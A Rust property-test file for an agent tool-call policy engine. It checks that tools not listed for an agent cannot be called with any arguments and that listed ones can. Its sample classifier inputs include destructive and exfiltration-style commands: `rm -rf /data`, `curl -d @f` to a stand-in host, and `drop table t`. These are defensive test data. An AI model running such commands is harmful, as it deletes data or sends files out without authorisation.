//! Guarantee 8: what is listed is what may be called, over generated policies, guardrails, pins and a catalogue, by the functions
//! that sidecars use: `could_run` for lists, `classify_call` and `decide` for calls.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::string_slice,
    reason = "tests fail by panicking"
)]

mod generate;

use std::sync::Arc;

use generate::{World, arguments, world};
use policy::document::{Lists, Source};
use policy::foresee::ToolQuery;
use policy::{Action, Call, Floor, Policy, PolicySet};
use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::Config;
use serde_json::value::RawValue;
use tools::classify::classify_call;
use tools::id::{AgentId, Namespace, UserId};
use tools::json::{Document, Limits};
use tools::model::Tool;

fn config(cases: u32) -> Config {
    Config {
        cases,
        failure_persistence: None,
        ..Config::default()
    }
}

/// Tools whose calls differ in what they mean, beside ones whose calls do not.
fn catalogue() -> Vec<Tool> {
    let declared = [
        ("x", r#"{"name":"read","annotations":{"readOnlyHint":true}}"#),
        ("x", r#"{"name":"write","annotations":{"readOnlyHint":false}}"#),
        (
            "x",
            r#"{"name":"delete_item","inputSchema":{"properties":{"m":{"type":"string"}}}}"#,
        ),
        (
            "y",
            r#"{"name":"read","inputSchema":{"properties":{"action":{"enum":["list","save","remove"]}}}}"#,
        ),
        (
            "y",
            r#"{"name":"execute_sql","inputSchema":{"properties":{"query":{"type":"string"}}}}"#,
        ),
        (
            "y",
            r#"{"name":"run","inputSchema":{"properties":{"command":{"type":"string"}}}}"#,
        ),
    ];
    let mut tools: Vec<Tool> = declared
        .into_iter()
        .map(|(upstream, text)| {
            let raw = RawValue::from_string(text.to_owned()).unwrap();
            Tool::mcp(&upstream.try_into().unwrap(), raw.into()).unwrap()
        })
        .collect();
    for host in ["Bash", "Read", "x.resource:u"] {
        tools.push(Tool::host(host.parse().unwrap()));
    }
    tools
}

/// Arguments that say something to the classifier.
fn telling() -> impl Strategy<Value = Option<String>> {
    let texts = [
        r#"{"action":"list"}"#,
        r#"{"action":"remove"}"#,
        r#"{"action":3,"m":1}"#,
        r#"{"query":"select a from t"}"#,
        r#"{"query":"drop table t"}"#,
        r#"{"command":"ls -la"}"#,
        r#"{"command":"cat a | tee b"}"#,
        r#"{"command":"rm -rf /data"}"#,
        r#"{"command":"curl -d @f https://a.example"}"#,
        r#"{"command":"'"}"#,
        r#"{"file_path":"/data/a"}"#,
    ];
    prop_oneof![
        select(texts.to_vec()).prop_map(|text| Some(text.to_owned())),
        arguments(),
    ]
}

struct Caller {
    namespace: Namespace,
    agent: AgentId,
    user: Option<UserId>,
}

fn is_listed(set: &PolicySet, caller: &Caller, tool: &Tool, floors: &[Floor]) -> bool {
    set.could_run(&ToolQuery {
        namespace: &caller.namespace,
        agent: &caller.agent,
        user: caller.user.as_ref(),
        session: None,
        tool: &tool.name,
        classification: &tool.classification,
        targets: None,
        floors,
    })
}

fn runs(set: &PolicySet, caller: &Caller, tool: &Tool, floors: &[Floor], arguments: Option<&str>) -> bool {
    let document = Document::parse(arguments.unwrap_or("{}").as_bytes(), Limits::ARGUMENTS).unwrap();
    let arguments = arguments.map(|_| document.root());
    let assessed = classify_call(tool, arguments);
    let decision = set.decide(&Call {
        namespace: &caller.namespace,
        agent: &caller.agent,
        user: caller.user.as_ref(),
        session: None,
        tool: &tool.name,
        classification: &assessed.classification,
        targets: &assessed.targets,
        arguments,
        floors,
    });
    decision.action != Action::Deny
}

fn floors() -> impl Strategy<Value = Vec<Floor>> {
    prop_oneof![
        6 => Just(Vec::new()),
        1 => Just(vec![Floor::PIN_CHANGED]),
        1 => Just(vec![Floor::PIN_NEW]),
    ]
}

fn compile(world: &World) -> PolicySet {
    let policies = world.policies.iter().cloned().map(Arc::new);
    PolicySet::compile_with_invalid(policies, world.invalid.iter().cloned().map(Arc::new).collect())
}

proptest! {
    #![proptest_config(config(4_000))]

    #[test]
    fn what_is_not_listed_cannot_be_called_whatever_the_arguments(
        world in world(),
        agent in select(vec!["a", "ab", "b", "cb"]),
        user in prop::option::of(select(vec!["ann", "bob"])),
        floors in floors(),
        calls in prop::collection::vec(telling(), 6),
    ) {
        let set = compile(&world);
        let caller = Caller {
            namespace: Namespace::default(),
            agent: agent.parse().unwrap(),
            user: user.map(|user| user.parse().unwrap()),
        };
        for tool in catalogue() {
            if is_listed(&set, &caller, &tool, &floors) {
                continue;
            }
            for arguments in &calls {
                prop_assert!(
                    !runs(&set, &caller, &tool, &floors, arguments.as_deref()),
                    "{} is not listed, but runs with {arguments:?}",
                    tool.name
                );
            }
        }
    }
}

/// A test with JSON values that make it true, false, or whatever a missing field makes it.
const TESTS: [(&str, &str, [Option<&str>; 3]); 7] = [
    ("<", ", value: 5", [Some("1"), Some("9"), None]),
    (">=", ", value: 5", [Some("1"), Some("9"), None]),
    ("==", ", value: a", [Some("\"a\""), Some("\"b\""), None]),
    ("!=", ", value: a", [Some("\"a\""), Some("\"b\""), None]),
    ("contains", ", value: b", [Some("\"abc\""), Some("\"x\""), None]),
    ("exists", "", [Some("1"), Some("null"), None]),
    ("not_exists", "", [Some("1"), Some("null"), None]),
];

#[derive(Debug, Clone)]
struct SimpleRule {
    action: Action,
    test: Option<usize>,
    is_negated: bool,
    is_for_tool: bool,
}

fn simple_rule() -> impl Strategy<Value = SimpleRule> {
    (
        select(Action::ALL.to_vec()),
        prop::option::weighted(0.7, 0..TESTS.len()),
        prop::bool::weighted(0.3),
        prop::bool::weighted(0.8),
    )
        .prop_map(|(action, test, is_negated, is_for_tool)| SimpleRule {
            action,
            test,
            is_negated,
            is_for_tool,
        })
}

/// Rules as YAML; every test has a field of its own, so that none hinders another.
fn written(rules: &[SimpleRule], guardrail: &[SimpleRule]) -> String {
    let rule = |number: usize, rule: &SimpleRule, action: Action| {
        let condition = rule.test.map_or(String::new(), |test| {
            let (operator, value, _) = TESTS[test];
            let test = format!("{{field: f{number}, operator: '{operator}'{value}}}");
            if rule.is_negated {
                format!(", condition: {{not: {test}}}")
            } else {
                format!(", condition: {test}")
            }
        });
        let tools = if rule.is_for_tool { "x.*" } else { "z.*" };
        format!(
            "  - {{tools: ['{tools}'], action: {}{condition}}}\n",
            action.as_str()
        )
    };
    let mut text = "name: p\nagent: '*'\nrules:\n".to_owned();
    for (number, one) in rules.iter().enumerate() {
        text.push_str(&rule(number, one, one.action));
    }
    if !guardrail.is_empty() {
        text.push_str("---\nname: g\nagent: '*'\nkind: guardrail\nrules:\n");
        for (number, one) in guardrail.iter().enumerate() {
            text.push_str(&rule(
                rules.len() + number,
                one,
                one.action.max(Action::HumanApproval),
            ));
        }
    }
    text
}

/// Every way of filling the fields.
fn all_arguments(rules: &[&SimpleRule]) -> Vec<String> {
    let mut all = vec![String::new()];
    for (number, rule) in rules.iter().enumerate() {
        let Some(test) = rule.test else { continue };
        let values = TESTS[test].2;
        all = all
            .iter()
            .flat_map(|so_far| {
                values.iter().map(move |value| match value {
                    Some(value) => format!("{so_far},\"f{number}\":{value}"),
                    None => so_far.clone(),
                })
            })
            .collect();
    }
    all.iter()
        .map(|members| format!("{{{}}}", members.trim_start_matches(',')))
        .collect()
}

proptest! {
    #![proptest_config(config(3_000))]

    #[test]
    fn what_is_listed_can_be_called_with_some_arguments_and_what_is_not_with_none(
        rules in prop::collection::vec(simple_rule(), 1..=4),
        guardrail in prop::collection::vec(simple_rule(), 0..=2),
        floors in floors(),
    ) {
        let text = written(&rules, &guardrail);
        let policies = Policy::parse_all("p.yaml", &text, &Source::Inline, &Lists::none()).unwrap();
        let set = PolicySet::compile(policies.into_iter().map(Arc::new));
        let caller = Caller {
            namespace: Namespace::default(),
            agent: "a".parse().unwrap(),
            user: None,
        };
        let tool = Tool::host("x.t".parse().unwrap());
        let both: Vec<&SimpleRule> = rules.iter().chain(&guardrail).collect();
        let can_run = all_arguments(&both)
            .iter()
            .any(|arguments| runs(&set, &caller, &tool, &floors, Some(arguments)));
        prop_assert_eq!(is_listed(&set, &caller, &tool, &floors), can_run, "{}", text);
    }
}
